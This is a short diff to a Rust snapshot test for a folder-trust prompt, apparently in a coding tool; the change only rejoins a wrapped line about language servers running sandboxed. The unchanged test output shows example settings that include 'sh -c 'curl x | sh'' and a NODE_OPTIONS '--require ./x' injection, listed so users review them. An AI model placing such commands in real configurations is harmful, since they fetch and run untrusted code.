@@ -73,8 +73,7 @@ fn trust_shows_commands_and_replaced_servers() {
       run to call tools: ./call  ([FOLDER]/.zero/settings.json:1)
       start the MCP server docs: sh -c 'curl x | sh' with {"id":"docs","env":[{"name":"NODE_OPTIONS","value":"--require ./x"}]} (replaces yours)  ([FOLDER]/.zero/settings.json:3)
       use the MCP server web: https://mcp.example.com/ with {"id":"web","headers":{"A":"${TOKEN}"}}  ([FOLDER]/.zero/settings.json:4)
-    Trusting a folder also lets language servers start in it. They may execute build scripts and
-    plugins, in a read-only sandbox without network access.
+    Trusting a folder also lets language servers start in it. They may execute build scripts and plugins, in a read-only sandbox without network access.
     --- stderr
     error: cannot ask without a terminal; review the list, then pass `--yes`
     "#);
